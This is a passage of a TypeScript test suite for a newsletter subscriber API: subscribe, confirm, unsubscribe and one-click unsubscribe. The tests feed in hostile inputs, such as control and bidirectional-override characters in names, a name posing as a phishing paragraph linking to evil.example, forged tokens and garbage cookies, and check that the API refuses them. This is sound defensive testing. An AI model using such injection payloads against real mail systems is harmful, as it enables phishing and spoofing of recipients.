import { env } from 'cloudflare:workers'
import { describe, expect, it } from 'vitest'
import { newsletterEmail } from '../../newsletters/content'
import {
  BASE_URL,
  api,
  apiWithEnv,
  expectProblem,
  fetchWorker,
  outboxMessagesTo,
  registerAdmin,
  registerAndLogin,
  registerUser,
  tokenFromEmail,
  uniqueName,
} from '../../../test/helpers'

// PUBLIC_BASE_URL in wrangler.toml: every emailed link starts with it (docs/API.md § Email).
const PUBLIC_BASE_URL = 'http://localhost:8787'
const CONFIRM_PATH = 'confirm-subscription'
const UNSUBSCRIBE_PATH = 'unsubscribe'
const ISO_UTC = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/
const SUBSCRIBER_KEYS = ['confirmed_at', 'created_at', 'email', 'id', 'name', 'status']
const CSV_HEADER = ['id', 'email', 'name', 'status', 'created_at', 'confirmed_at']
const UNSAFE_NAME_MESSAGE =
  'must be a single line of text without control characters or invisible formatting characters'
/** Characters a subscriber name may not contain (docs/API.md § Subscribers), put inside a name. */
const UNSAFE_NAME_CHARACTERS = [
  ['a LF', '\n'],
  ['a CR', '\r'],
  ['a CRLF', '\r\n'],
  ['a tab', '\t'],
  ['a vertical tab', '\v'],
  ['a form feed', '\f'],
  ['NUL', '\u0000'],
  ['ESC (terminal escapes)', '\u001B[31m'],
  ['DEL', '\u007F'],
  ['a C1 control (NEL)', '\u0085'],
  ['a line separator', '\u2028'],
  ['a paragraph separator', '\u2029'],
  ['a left-to-right embedding', '\u202A'],
  ['a right-to-left embedding', '\u202B'],
  ['a pop directional formatting', '\u202C'],
  ['a left-to-right override', '\u202D'],
  ['a right-to-left override', '\u202E'],
  ['a left-to-right isolate', '\u2066'],
  ['a right-to-left isolate', '\u2067'],
  ['a first-strong isolate', '\u2068'],
  ['a pop directional isolate', '\u2069'],
  ['a left-to-right mark', '\u200E'],
  ['a right-to-left mark', '\u200F'],
  ['an Arabic letter mark', '\u061C'],
  ['a zero-width space', '\u200B'],
  ['a byte order mark', '\uFEFF'],
  ['a soft hyphen', '\u00AD'],
  ['a tag character', '\u{E0041}'],
  ['a lone surrogate', '\uD800'],
] as const

type SubscriberStatus = 'pending' | 'active' | 'unsubscribed' | 'bounced' | 'complained'

interface SubscriberView {
  id: number
  email: string
  name: string | null
  status: SubscriberStatus
  created_at: string
  confirmed_at: string | null
}

interface SubscriberPage {
  results: SubscriberView[]
  next: string | null
  previous: string | null
}

/** An address no other test in this file uses. */
function uniqueEmail(prefix = 'sub'): string {
  return `${uniqueName(prefix)}@example.com`
}

function subscribe(email: string, name?: string): Promise<Response> {
  return api('POST', '/subscribers', name === undefined ? { email } : { email, name })
}

async function subscribeOk(email: string, name?: string): Promise<void> {
  const res = await subscribe(email, name)
  if (res.status !== 202) throw new Error(`subscribe failed: ${res.status} ${await res.text()}`)
}

/** Subscribes and confirms with the emailed token: an active subscriber. */
async function subscribeActive(email: string, name?: string): Promise<void> {
  await subscribeOk(email, name)
  const res = await api('POST', '/subscribers/confirm', { token: await tokenFromEmail(email, CONFIRM_PATH) })
  if (res.status !== 200) throw new Error(`confirm failed: ${res.status} ${await res.text()}`)
}

/** Subscribes and unsubscribes with the emailed token. */
async function subscribeUnsubscribed(email: string, name?: string): Promise<void> {
  await subscribeOk(email, name)
  const res = await api('POST', '/subscribers/unsubscribe', { token: await tokenFromEmail(email, UNSUBSCRIBE_PATH) })
  if (res.status !== 200) throw new Error(`unsubscribe failed: ${res.status} ${await res.text()}`)
}

async function adminToken(): Promise<string> {
  return (await registerAdmin()).tokens.access_token
}

async function getPage(path: string, token: string): Promise<SubscriberPage> {
  const res = await api('GET', path, undefined, token)
  if (res.status !== 200) throw new Error(`GET ${path} failed: ${res.status} ${await res.text()}`)
  return (await res.json()) as SubscriberPage
}

/** Path and query of an absolute `next`/`previous` URL, checked to be on this API's origin. */
function pathOf(url: string): string {
  if (!url.startsWith(`${BASE_URL}/api/v1/`)) throw new Error(`not an absolute API URL: ${url}`)
  return url.slice(BASE_URL.length)
}

/** Every page from `path` on, following `next` until it is null. */
async function walk(path: string, token: string): Promise<SubscriberPage[]> {
  const pages = [await getPage(path, token)]
  for (let next = pages[0]!.next; next !== null; next = pages[pages.length - 1]!.next) {
    if (pages.length > 50) throw new Error('pagination does not end')
    pages.push(await getPage(pathOf(next), token))
  }
  return pages
}

/** The admin view of the subscriber with this address (case-insensitive). */
async function findSubscriber(token: string, email: string): Promise<SubscriberView> {
  const { results } = await getPage(`/subscribers?q=${encodeURIComponent(email)}`, token)
  const matches = results.filter((s) => s.email.toLowerCase() === email.toLowerCase())
  if (matches.length !== 1) throw new Error(`expected one subscriber ${email}, found ${matches.length}`)
  return matches[0]!
}

/** Sets the expiry of every subscription confirmation token sent to `email` in D1. */
async function expireConfirmationTokens(email: string, expiresAt: Date): Promise<void> {
  await env.DB.prepare(
    "UPDATE one_time_tokens SET expires_at = ?1 WHERE purpose = 'subscription_confirmation' AND lower(email) = lower(?2)",
  )
    .bind(expiresAt.getTime(), email)
    .run()
}

/** Inserts a pending subscriber directly in D1: a row the API's rules might refuse today. */
async function insertSubscriber(email: string, name: string | null): Promise<void> {
  await env.DB.prepare(
    "INSERT INTO subscribers (email, name, status, created_at, updated_at, unsubscribe_token_hash) VALUES (?1, ?2, 'pending', ?3, ?3, ?4)",
  )
    .bind(email, name, Date.now(), crypto.randomUUID())
    .run()
}

/**
 * A strict RFC 4180 parser: CRLF-terminated records, fields quoted with `"` when needed, `""` for
 * a quote inside a quoted field. Throws on anything else, so a quoting mistake cannot pass.
 */
function parseCsv(text: string): string[][] {
  const records: string[][] = []
  let record: string[] = []
  let field = ''
  let i = 0
  const endField = (): void => {
    record.push(field)
    field = ''
  }
  while (i < text.length) {
    if (text[i] === '"' && field === '') {
      // Quoted field: runs to the next quote not doubled.
      i += 1
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field')
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"'
            i += 2
            continue
          }
          i += 1
          break
        }
        field += text[i]
        i += 1
      }
      if (i < text.length && text[i] !== ',' && !(text[i] === '\r' && text[i + 1] === '\n')) {
        throw new Error(`unexpected character after a quoted field at ${i}`)
      }
      continue
    }
    const ch = text[i]!
    if (ch === ',') {
      endField()
      i += 1
    } else if (ch === '\r' && text[i + 1] === '\n') {
      endField()
      records.push(record)
      record = []
      i += 2
    } else if (ch === '"' || ch === '\r' || ch === '\n') {
      throw new Error(`unquoted ${JSON.stringify(ch)} at ${i}`)
    } else {
      field += ch
      i += 1
    }
  }
  if (field !== '' || record.length > 0) throw new Error('the last record is not CRLF-terminated')
  return records
}

async function exportCsv(token: string): Promise<{ res: Response; header: string[]; rows: Map<number, string[]> }> {
  const res = await api('GET', '/subscribers/export', undefined, token)
  if (res.status !== 200) throw new Error(`export failed: ${res.status} ${await res.text()}`)
  const [header, ...records] = parseCsv(await res.text())
  const rows = new Map<number, string[]>()
  for (const record of records) {
    if (record.length !== CSV_HEADER.length)
      throw new Error(`record with ${record.length} fields: ${JSON.stringify(record)}`)
    const id = Number(record[0])
    if (rows.has(id)) throw new Error(`subscriber ${id} exported twice`)
    rows.set(id, record)
  }
  return { res, header: header ?? [], rows }
}

describe('POST /api/v1/subscribers', () => {
  it('answers 202 {status:"pending"} and queues a confirmation email with both links', async ({ expect }) => {
    const email = uniqueEmail()
    const res = await subscribe(email, 'Ada')
    expect(res.status).toBe(202)
    expect(res.headers.get('content-type')).toMatch(/^application\/json/)
    expect(await res.json()).toEqual({ status: 'pending' })

    const messages = await outboxMessagesTo(email)
    expect(messages).toHaveLength(1)
    const [message] = messages
    const confirmToken = await tokenFromEmail(email, CONFIRM_PATH)
    const unsubscribeToken = await tokenFromEmail(email, UNSUBSCRIBE_PATH)
    expect(confirmToken).toMatch(/^[A-Za-z0-9_-]+$/)
    expect(unsubscribeToken).toMatch(/^[A-Za-z0-9_-]+$/)
    expect(confirmToken).not.toBe(unsubscribeToken)
    expect(message!.text).toContain(`${PUBLIC_BASE_URL}/${CONFIRM_PATH}?token=${confirmToken}`)
    expect(message!.text).toContain(`${PUBLIC_BASE_URL}/${UNSUBSCRIBE_PATH}?token=${unsubscribeToken}`)
    expect(message!.headers['List-Unsubscribe']).toBe(
      `<${PUBLIC_BASE_URL}/${UNSUBSCRIBE_PATH}?token=${unsubscribeToken}>`,
    )
    // The confirmation email offers no one-click POST (RFC 8058): its link opens the client app. Newsletters do.
    expect(message!.headers['List-Unsubscribe-Post']).toBeUndefined()
  })

  it('creates a pending subscriber with its name and no confirmed_at', async ({ expect }) => {
    const token = await adminToken()
    const email = uniqueEmail()
    await subscribeOk(email, 'Grace Hopper')
    const subscriber = await findSubscriber(token, email)
    expect(subscriber).toMatchObject({ email, name: 'Grace Hopper', status: 'pending', confirmed_at: null })
    expect(subscriber.created_at).toMatch(ISO_UTC)
  })

  it('gives the identical answer for a new, a pending, an active and an unsubscribed address', async ({ expect }) => {
    const pending = uniqueEmail('pending')
    const active = uniqueEmail('active')
    const unsubscribed = uniqueEmail('unsub')
    await subscribeOk(pending)
    await subscribeActive(active)
    await subscribeUnsubscribed(unsubscribed)

    const answers = []
    for (const email of [uniqueEmail('new'), pending, active, unsubscribed]) {
      const res = await subscribe(email)
      answers.push({ status: res.status, contentType: res.headers.get('content-type'), body: await res.text() })
    }
    expect(answers[0]).toEqual({
      status: 202,
      contentType: expect.stringMatching(/^application\/json/),
      body: '{"status":"pending"}',
    })
    for (const answer of answers.slice(1)) expect(answer).toEqual(answers[0])
  })

  it('leaves an active address active and sends it no new email', async ({ expect }) => {
    const token = await adminToken()
    const email = uniqueEmail()
    await subscribeActive(email, 'Before')
    const before = await findSubscriber(token, email)
    const emailsBefore = (await outboxMessagesTo(email)).length

    const res = await subscribe(email, 'After')
    expect(res.status).toBe(202)
    expect(await res.json()).toEqual({ status: 'pending' })
    expect(await findSubscriber(token, email)).toEqual(before)
    expect(before.status).toBe('active')
    expect(await outboxMessagesTo(email)).toHaveLength(emailsBefore)
  })

  it('sends a pending address a new confirmation email whose token works', async ({ expect }) => {
    const token = await adminToken()
    const email = uniqueEmail()
    await subscribeOk(email)
    const firstToken = await tokenFromEmail(email, CONFIRM_PATH)
    await subscribeOk(email)

    expect(await outboxMessagesTo(email)).toHaveLength(2)
    const secondToken = await tokenFromEmail(email, CONFIRM_PATH)
    expect(secondToken).not.toBe(firstToken)
    expect((await findSubscriber(token, email)).status).toBe('pending')
    const confirmed = await api('POST', '/subscribers/confirm', { token: secondToken })
    expect(confirmed.status).toBe(200)
  })

  it('puts an unsubscribed address back to pending with a new confirmation email', async ({ expect }) => {
    const token = await adminToken()
    const email = uniqueEmail()
    await subscribeUnsubscribed(email)
    expect((await findSubscriber(token, email)).status).toBe('unsubscribed')
    const emailsBefore = (await outboxMessagesTo(email)).length

    await subscribeOk(email)
    expect((await findSubscriber(token, email)).status).toBe('pending')
    const messages = await outboxMessagesTo(email)
    expect(messages).toHaveLength(emailsBefore + 1)
    expect(messages[messages.length - 1]!.text).toContain(`${PUBLIC_BASE_URL}/${CONFIRM_PATH}?token=`)

    const confirmed = await api('POST', '/subscribers/confirm', { token: await tokenFromEmail(email, CONFIRM_PATH) })
    expect(await confirmed.json()).toEqual({ email, status: 'active' })
    expect((await findSubscriber(token, email)).status).toBe('active')
  })

  it('treats addresses case-insensitively: FOO@x and foo@x are one subscriber', async ({ expect }) => {
    const token = await adminToken()
    const local = uniqueName('CaSe')
    const upper = `${local.toUpperCase()}@EXAMPLE.COM`
    const lower = `${local.toLowerCase()}@example.com`
    expect((await subscribe(upper)).status).toBe(202)
    expect((await subscribe(lower)).status).toBe(202)

    const { results } = await getPage(`/subscribers?q=${encodeURIComponent(local.toLowerCase())}`, token)
    expect(results).toHaveLength(1)
    expect(results[0]!.email.toLowerCase()).toBe(lower)
    // Both subscription emails carry the same unsubscribe token: one subscriber, one token.
    const messages = await outboxMessagesTo(lower)
    expect(messages).toHaveLength(2)
    const unsubscribeLinks = messages.map((m) => m.headers['List-Unsubscribe'])
    expect(unsubscribeLinks[0]).toBe(unsubscribeLinks[1])
  })

  it('answers 400 validation_failed to an invalid email', async ({ expect }) => {
    for (const email of ['not-an-email', 'a@', '@example.com', '', 'two@@example.com']) {
      const problem = await expectProblem(await subscribe(email), 400, 'validation_failed')
      expect(problem.errors?.map((e) => e.path)).toContain('email')
    }
  })

  it('answers 400 validation_failed to a missing email and a too long name', async ({ expect }) => {
    const missing = await expectProblem(
      await api('POST', '/subscribers', { name: 'No email' }),
      400,
      'validation_failed',
    )
    expect(missing.errors?.map((e) => e.path)).toContain('email')
    const longName = await expectProblem(await subscribe(uniqueEmail(), 'x'.repeat(201)), 400, 'validation_failed')
    expect(longName.errors?.map((e) => e.path)).toContain('name')
  })

  it.for(UNSAFE_NAME_CHARACTERS)(
    'answers 400 validation_failed naming "name" to a name with %s, echoing nothing',
    async ([, character], { expect }) => {
      const email = uniqueEmail('unsafe')
      const res = await subscribe(email, `Ada${character}Lovelace`)
      const text = await res.clone().text()
      const problem = await expectProblem(res, 400, 'validation_failed')
      expect(problem.errors).toEqual([{ path: 'name', message: UNSAFE_NAME_MESSAGE }])
      expect(text).not.toContain('Lovelace')
      expect(await outboxMessagesTo(email)).toEqual([])
      const { results } = await env.DB.prepare('SELECT id FROM subscribers WHERE lower(email) = lower(?)')
        .bind(email)
        .all()
      expect(results).toEqual([])
    },
  )

  it('refuses a name posing as a paragraph of the email', async ({ expect }) => {
    const email = uniqueEmail('phish')
    const res = await subscribe(
      email,
      'friend,\r\n\r\nYour account is locked. Unlock it at http://evil.example\r\n\r\nThanks',
    )
    expect((await expectProblem(res, 400, 'validation_failed')).errors?.map((e) => e.path)).toEqual(['name'])
    expect(await outboxMessagesTo(email)).toEqual([])
  })

  it.for([
    ['an emoji ZWJ sequence', 'Ada 👩‍💻', 'Ada 👩‍💻'],
    ['a ZWNJ (Persian)', 'نیک\u200Cنام', 'نیک\u200Cنام'],
    ['right-to-left text without controls', 'مرحبا Ada', 'مرحبا Ada'],
    ['surrounding whitespace and line breaks (trimmed)', '\r\n\t Ada Lovelace \n', 'Ada Lovelace'],
  ] as const)('accepts a name with %s', async ([, name, stored], { expect }) => {
    const token = await adminToken()
    const email = uniqueEmail('safe')
    await subscribeOk(email, name)
    expect((await findSubscriber(token, email)).name).toBe(stored)
    expect((await outboxMessagesTo(email))[0]!.text).toContain(`Hello ${stored},\n`)
  })

  it.for(['pending', 'unsubscribed'] as const)(
    'keeps the stored name of a %s address whoever re-subscribes it, and greets with the stored name',
    async (state, { expect }) => {
      const token = await adminToken()
      const email = uniqueEmail(state)
      if (state === 'pending') await subscribeOk(email, 'Ada')
      else await subscribeUnsubscribed(email, 'Ada')

      await subscribeOk(email, 'Mallory: your account is locked, call +1 555 0100')
      expect(await findSubscriber(token, email)).toMatchObject({ name: 'Ada', status: 'pending' })
      const messages = await outboxMessagesTo(email)
      expect(messages).toHaveLength(2)
      expect(messages[1]!.text).toContain('Hello Ada,\n')
      expect(messages[1]!.text).not.toContain('Mallory')
    },
  )

  it('sets no name on an existing address that has none: naming it is a stranger overwrite too', async ({ expect }) => {
    const token = await adminToken()
    const email = uniqueEmail('nameless')
    await subscribeOk(email)
    await subscribeOk(email, 'Mallory')
    expect((await findSubscriber(token, email)).name).toBeNull()
    const messages = await outboxMessagesTo(email)
    expect(messages).toHaveLength(2)
    expect(messages[1]!.text).toMatch(/^Hello,\n/)
    expect(messages[1]!.text).not.toContain('Mallory')
  })

  it.for(['pending', 'unsubscribed'] as const)(
    're-subscribing a %s address refreshes its unsubscribe token hash: the new link works after JWT_SECRET is rotated',
    async (state, { expect }) => {
      const token = await adminToken()
      const email = uniqueEmail(`rotate-${state}`)
      if (state === 'pending') await subscribeOk(email)
      else await subscribeUnsubscribed(email)
      const oldToken = await tokenFromEmail(email, UNSUBSCRIBE_PATH)

      // Built once: config and keys are memoised per env object.
      const rotated = { ...env, JWT_SECRET: `${env.JWT_SECRET}-rotated` }
      expect((await apiWithEnv(rotated, 'POST', '/subscribers', { email })).status).toBe(202)
      const newToken = await tokenFromEmail(email, UNSUBSCRIBE_PATH)
      expect(newToken).not.toBe(oldToken)
      expect((await findSubscriber(token, email)).status).toBe('pending')

      const res = await apiWithEnv(rotated, 'POST', '/subscribers/unsubscribe', { token: newToken })
      expect(res.status).toBe(200)
      expect(await res.json()).toEqual({ status: 'unsubscribed' })
      expect((await findSubscriber(token, email)).status).toBe('unsubscribed')
    },
  )

  it('answers 415 unsupported_media_type to a form body (subscribe is not an auth endpoint)', async ({ expect }) => {
    const email = uniqueEmail()
    const res = await api('POST', '/subscribers', `email=${encodeURIComponent(email)}`, undefined, {
      'content-type': 'application/x-www-form-urlencoded',
    })
    await expectProblem(res, 415, 'unsupported_media_type')
    expect(await outboxMessagesTo(email)).toHaveLength(0)
  })

  it('answers 413 payload_too_large to a body over 64 KiB', async ({ expect }) => {
    const email = uniqueEmail()
    const res = await api('POST', '/subscribers', { email, name: 'x'.repeat(70 * 1024) })
    await expectProblem(res, 413, 'payload_too_large')
    expect(await outboxMessagesTo(email)).toHaveLength(0)
  })

  it('answers 400 validation_failed to malformed JSON', async ({ expect }) => {
    const problem = await expectProblem(await api('POST', '/subscribers', '{"email": '), 400, 'validation_failed')
    expect(problem.detail).toMatch(/JSON/)
  })
})

describe('POST /api/v1/subscribers/confirm', () => {
  it('activates the subscriber: 200 {email, status:"active"} and sets confirmed_at', async ({ expect }) => {
    const token = await adminToken()
    const email = uniqueEmail()
    await subscribeOk(email)
    const res = await api('POST', '/subscribers/confirm', { token: await tokenFromEmail(email, CONFIRM_PATH) })
    expect(res.status).toBe(200)
    expect(await res.json()).toEqual({ email, status: 'active' })

    const subscriber = await findSubscriber(token, email)
    expect(subscriber.status).toBe('active')
    expect(subscriber.confirmed_at).toMatch(ISO_UTC)
    expect(Date.parse(subscriber.confirmed_at!)).toBeGreaterThanOrEqual(Date.parse(subscriber.created_at))
  })

  it('refuses a second use of the same token with 400 token_invalid', async ({ expect }) => {
    const email = uniqueEmail()
    await subscribeOk(email)
    const confirmToken = await tokenFromEmail(email, CONFIRM_PATH)
    expect((await api('POST', '/subscribers/confirm', { token: confirmToken })).status).toBe(200)
    await expectProblem(await api('POST', '/subscribers/confirm', { token: confirmToken }), 400, 'token_invalid')
  })

  it('answers 400 token_invalid to a garbage token', async () => {
    await expectProblem(await api('POST', '/subscribers/confirm', { token: 'garbage' }), 400, 'token_invalid')
    const wellFormed = 'A'.repeat(43)
    await expectProblem(await api('POST', '/subscribers/confirm', { token: wellFormed }), 400, 'token_invalid')
  })

  it('answers 400 validation_failed naming "token" when the token is missing', async ({ expect }) => {
    for (const body of [{}, { token: '' }]) {
      const problem = await expectProblem(await api('POST', '/subscribers/confirm', body), 400, 'validation_failed')
      expect(problem.errors?.map((e) => e.path)).toContain('token')
    }
  })

  it('answers 400 token_expired to an expired token and leaves the subscriber pending', async ({ expect }) => {
    const token = await adminToken()
    const email = uniqueEmail()
    await subscribeOk(email)
    await expireConfirmationTokens(email, new Date(Date.now() - 60_000))
    const res = await api('POST', '/subscribers/confirm', { token: await tokenFromEmail(email, CONFIRM_PATH) })
    await expectProblem(res, 400, 'token_expired')
    expect(await findSubscriber(token, email)).toMatchObject({ status: 'pending', confirmed_at: null })
  })

  it('refuses an email verification token of a user account (another purpose)', async () => {
    const user = await registerUser()
    const verificationToken = await tokenFromEmail(user.email, 'verify-email')
    await expectProblem(await api('POST', '/subscribers/confirm', { token: verificationToken }), 400, 'token_invalid')
  })

  it('refuses the unsubscribe token as a confirmation token', async ({ expect }) => {
    const token = await adminToken()
    const email = uniqueEmail()
    await subscribeOk(email)
    const unsubscribeToken = await tokenFromEmail(email, UNSUBSCRIBE_PATH)
    await expectProblem(await api('POST', '/subscribers/confirm', { token: unsubscribeToken }), 400, 'token_invalid')
    expect((await findSubscriber(token, email)).status).toBe('pending')
  })

  it('answers 415 to a form body', async () => {
    const res = await api('POST', '/subscribers/confirm', 'token=abc', undefined, {
      'content-type': 'application/x-www-form-urlencoded',
    })
    await expectProblem(res, 415, 'unsupported_media_type')
  })
})

describe('POST /api/v1/subscribers/unsubscribe', () => {
  it('unsubscribes an active subscriber with the emailed token, idempotently', async ({ expect }) => {
    const token = await adminToken()
    const email = uniqueEmail()
    await subscribeActive(email)
    const unsubscribeToken = await tokenFromEmail(email, UNSUBSCRIBE_PATH)

    const first = await api('POST', '/subscribers/unsubscribe', { token: unsubscribeToken })
    expect(first.status).toBe(200)
    expect(await first.json()).toEqual({ status: 'unsubscribed' })
    expect((await findSubscriber(token, email)).status).toBe('unsubscribed')

    const again = await api('POST', '/subscribers/unsubscribe', { token: unsubscribeToken })
    expect(again.status).toBe(200)
    expect(await again.json()).toEqual({ status: 'unsubscribed' })
    expect((await findSubscriber(token, email)).status).toBe('unsubscribed')
  })

  it('works before the subscription is confirmed', async ({ expect }) => {
    const token = await adminToken()
    const email = uniqueEmail()
    await subscribeOk(email)
    const res = await api('POST', '/subscribers/unsubscribe', { token: await tokenFromEmail(email, UNSUBSCRIBE_PATH) })
    expect(res.status).toBe(200)
    expect(await res.json()).toEqual({ status: 'unsubscribed' })
    expect(await findSubscriber(token, email)).toMatchObject({ status: 'unsubscribed', confirmed_at: null })
  })

  it('answers 400 token_invalid to forged and garbage tokens and changes nobody', async ({ expect }) => {
    const token = await adminToken()
    const email = uniqueEmail()
    await subscribeActive(email)
    const real = await tokenFromEmail(email, UNSUBSCRIBE_PATH)
    const flipped = `${real.slice(0, -1)}${real.endsWith('A') ? 'B' : 'A'}`
    for (const forged of ['garbage', 'A'.repeat(22), flipped, `${real}A`, real.slice(1)]) {
      await expectProblem(await api('POST', '/subscribers/unsubscribe', { token: forged }), 400, 'token_invalid')
    }
    expect((await findSubscriber(token, email)).status).toBe('active')
  })

  it('does not accept the confirmation token as an unsubscribe token', async ({ expect }) => {
    const token = await adminToken()
    const email = uniqueEmail()
    await subscribeOk(email)
    const confirmToken = await tokenFromEmail(email, CONFIRM_PATH)
    await expectProblem(await api('POST', '/subscribers/unsubscribe', { token: confirmToken }), 400, 'token_invalid')
    expect((await findSubscriber(token, email)).status).toBe('pending')
  })

  it('unsubscribes only the token owner', async ({ expect }) => {
    const token = await adminToken()
    const mine = uniqueEmail('mine')
    const theirs = uniqueEmail('theirs')
    await subscribeActive(mine)
    await subscribeActive(theirs)
    await api('POST', '/subscribers/unsubscribe', { token: await tokenFromEmail(mine, UNSUBSCRIBE_PATH) })
    expect((await findSubscriber(token, mine)).status).toBe('unsubscribed')
    expect((await findSubscriber(token, theirs)).status).toBe('active')
  })

  it('answers 400 validation_failed naming "token" when the token is missing', async ({ expect }) => {
    const problem = await expectProblem(await api('POST', '/subscribers/unsubscribe', {}), 400, 'validation_failed')
    expect(problem.errors?.map((e) => e.path)).toContain('token')
  })
})

/** The List-Unsubscribe URL a newsletter to `email` carries (src/newsletters/content.ts builds it). */
async function oneClickUrl(email: string): Promise<string> {
  const message = newsletterEmail(
    {
      subject: 'A post',
      body: 'Text',
      postUrl: `${PUBLIC_BASE_URL}/posts/a-post`,
      listName: 'edgepress',
      publicBaseUrl: PUBLIC_BASE_URL,
      apiOrigin: BASE_URL,
      from: 'edgepress <news@example.com>',
    },
    email,
    await tokenFromEmail(email, UNSUBSCRIBE_PATH),
  )
  expect(message.headers?.['List-Unsubscribe-Post']).toBe(ONE_CLICK_BODY)
  const url = /^<(.+)>$/.exec(message.headers?.['List-Unsubscribe'] ?? '')?.[1]
  if (url === undefined) throw new Error('no List-Unsubscribe URL')
  return url
}

const ONE_CLICK_BODY = 'List-Unsubscribe=One-Click'
const FORM = 'application/x-www-form-urlencoded'

/** A mail provider's one-click POST (RFC 8058): no cookie, no Origin, no token but the URL's. */
function postOneClick(url: string, body: BodyInit | null = ONE_CLICK_BODY, headers: Record<string, string> = {}) {
  const contentType: Record<string, string> = typeof body === 'string' ? { 'content-type': FORM } : {}
  return fetchWorker(url, { method: 'POST', headers: { ...contentType, ...headers }, body, redirect: 'manual' })
}

/** RFC 8058's body as multipart/form-data, the other encoding a mail provider may use. */
function multipartOneClick(value = 'One-Click'): FormData {
  const form = new FormData()
  form.set('List-Unsubscribe', value)
  return form
}

async function expectUnsubscribed(res: Response): Promise<void> {
  const text = await res.text()
  if (res.status !== 200) throw new Error(`expected 200, got ${res.status}: ${text}`)
  expect(res.headers.get('location')).toBeNull()
  expect(res.headers.get('content-type')).toMatch(/^application\/json/)
  expect(JSON.parse(text)).toEqual({ status: 'unsubscribed' })
}

describe('POST /api/v1/subscribers/unsubscribe?token= (RFC 8058 one-click)', () => {
  it('unsubscribes with the URL of the List-Unsubscribe header and a form body: 200 JSON, no redirect', async () => {
    const token = await adminToken()
    const email = uniqueEmail('oneclick')
    await subscribeActive(email)
    const url = await oneClickUrl(email)
    expect(url).toMatch(/^https:\/\/edgepress\.test\/api\/v1\/subscribers\/unsubscribe\?token=[A-Za-z0-9_-]+$/)

    await expectUnsubscribed(await postOneClick(url))
    expect((await findSubscriber(token, email)).status).toBe('unsubscribed')
    // Providers retry; so may the reader.
    await expectUnsubscribed(await postOneClick(url))
    await expectUnsubscribed(await postOneClick(url, ONE_CLICK_BODY, { 'content-type': `${FORM}; charset=UTF-8` }))
    expect((await findSubscriber(token, email)).status).toBe('unsubscribed')
  })

  // Needs src/middleware/body.ts to take multipart/form-data on this route: it answers 415 until then.
  it('unsubscribes with a multipart/form-data body', async () => {
    const token = await adminToken()
    const email = uniqueEmail('multipart')
    await subscribeActive(email)
    await expectUnsubscribed(await postOneClick(await oneClickUrl(email), multipartOneClick()))
    expect((await findSubscriber(token, email)).status).toBe('unsubscribed')
  })

  it('needs no cookie, Origin or CSRF token, and is not refused for a foreign one: the token authorises it', async () => {
    const token = await adminToken()
    const email = uniqueEmail('foreign')
    await subscribeActive(email)
    const res = await postOneClick(await oneClickUrl(email), ONE_CLICK_BODY, {
      origin: 'https://mail.provider.example',
      'sec-fetch-site': 'cross-site',
      cookie: '__Host-edgepress-access=garbage; __Host-edgepress-csrf=garbage',
    })
    await expectUnsubscribed(res)
    expect((await findSubscriber(token, email)).status).toBe('unsubscribed')
  })

  it('keeps taking the JSON body {token}: the body token is the one used', async () => {
    const token = await adminToken()
    const mine = uniqueEmail('jsonwins')
    const theirs = uniqueEmail('jsonother')
    await subscribeActive(mine)
    await subscribeActive(theirs)
    const theirUrl = await oneClickUrl(theirs)
    const res = await fetchWorker(theirUrl, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ token: await tokenFromEmail(mine, UNSUBSCRIBE_PATH) }),
    })
    await expectUnsubscribed(res)
    expect((await findSubscriber(token, mine)).status).toBe('unsubscribed')
    expect((await findSubscriber(token, theirs)).status).toBe('active')
  })

  it('accepts the JSON token as a form field too', async () => {
    const token = await adminToken()
    const email = uniqueEmail('formtoken')
    await subscribeActive(email)
    const body = `token=${await tokenFromEmail(email, UNSUBSCRIBE_PATH)}`
    await expectUnsubscribed(await postOneClick(`${BASE_URL}/api/v1/subscribers/unsubscribe`, body))
    expect((await findSubscriber(token, email)).status).toBe('unsubscribed')
  })

  it('answers malformed one-click requests with a 4xx problem and changes nobody', async ({ expect }) => {
    const token = await adminToken()
    const email = uniqueEmail('malformed')
    await subscribeActive(email)
    const url = await oneClickUrl(email)
    const real = new URL(url).searchParams.get('token')!
    const base = `${BASE_URL}/api/v1/subscribers/unsubscribe`
    const cases: [string, () => Promise<Response>, number, string, string?][] = [
      ['a garbage token', () => postOneClick(`${base}?token=garbage`), 400, 'token_invalid'],
      ['a forged token', () => postOneClick(`${base}?token=${'A'.repeat(22)}`), 400, 'token_invalid'],
      ['an empty token', () => postOneClick(`${base}?token=`), 400, 'validation_failed', 'token'],
      [
        'a token of 513 characters',
        () => postOneClick(`${base}?token=${'A'.repeat(513)}`),
        400,
        'validation_failed',
        'token',
      ],
      ['two tokens', () => postOneClick(`${url}&token=${real}`), 400, 'validation_failed', 'token'],
      ['no token at all', () => postOneClick(base), 400, 'validation_failed', 'token'],
      ['an empty form', () => postOneClick(url, ''), 400, 'validation_failed', 'List-Unsubscribe'],
      ['another field', () => postOneClick(url, 'unsubscribe=yes'), 400, 'validation_failed', 'List-Unsubscribe'],
      ['no body', () => postOneClick(url, null), 400, 'validation_failed', 'List-Unsubscribe'],
      ['a wrong value', () => postOneClick(url, 'List-Unsubscribe=Yes'), 400, 'validation_failed', 'List-Unsubscribe'],
      [
        'a lower-case value',
        () => postOneClick(url, 'List-Unsubscribe=one-click'),
        400,
        'validation_failed',
        'List-Unsubscribe',
      ],
      [
        'a text/plain body',
        () => postOneClick(url, ONE_CLICK_BODY, { 'content-type': 'text/plain' }),
        415,
        'unsupported_media_type',
      ],
      [
        'a body over 64 KiB',
        () => postOneClick(url, `${ONE_CLICK_BODY}&pad=${'x'.repeat(70 * 1024)}`),
        413,
        'payload_too_large',
      ],
    ]
    for (const [what, send, status, code, path] of cases) {
      const res = await send()
      const problem = await expectProblem(res, status, code).catch((error: Error) => {
        throw new Error(`${what}: ${error.message}`)
      })
      if (path !== undefined)
        expect(
          problem.errors?.map((e) => e.path),
          what,
        ).toEqual([path])
    }
    expect((await findSubscriber(token, email)).status).toBe('active')
  })

  // Needs src/middleware/body.ts to take multipart/form-data on this route: 415 until then.
  it('answers a malformed multipart body or a wrong multipart value 400 and changes nobody', async ({ expect }) => {
    const token = await adminToken()
    const email = uniqueEmail('badmultipart')
    await subscribeActive(email)
    const url = await oneClickUrl(email)
    await expectProblem(await postOneClick(url, multipartOneClick('Yes')), 400, 'validation_failed')
    const truncated = postOneClick(url, '--xyz\r\nContent-Disposition: form-data; name="List-Unsub', {
